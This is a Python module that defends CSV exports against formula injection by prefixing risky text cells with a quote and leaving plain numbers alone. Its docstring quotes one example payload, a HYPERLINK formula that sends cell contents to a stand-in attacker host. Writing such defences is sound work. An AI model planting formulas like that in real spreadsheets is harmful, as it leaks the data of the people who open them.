"""CSV cells that a spreadsheet will not run as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets read a cell starting with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or carriage return) as a formula: a root-cause note
``=HYPERLINK("https://evil.example/?"&A1, "details")`` in a report downloaded by a customer
would run on their machine. Such text cells are prefixed with ``'``, which spreadsheets show
as plain text and do not display.

Numbers stay numbers: a cell that is a plain number (``-12.5``, ``+3``, ``-1e3``) is written
unchanged, since a spreadsheet reads it as a value and cannot read it as a formula; the value
columns of the exports carry negative figures that finance systems must read as numbers.
Every CSV the portal offers is written through ``SafeDictWriter`` or ``safe_cell``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# An optionally signed decimal, with an optional exponent: what a spreadsheet reads as a value.
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written to a CSV cell: text that would start a formula gets a
    leading ``'``; numbers and other text are unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every cell goes through ``safe_cell``."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
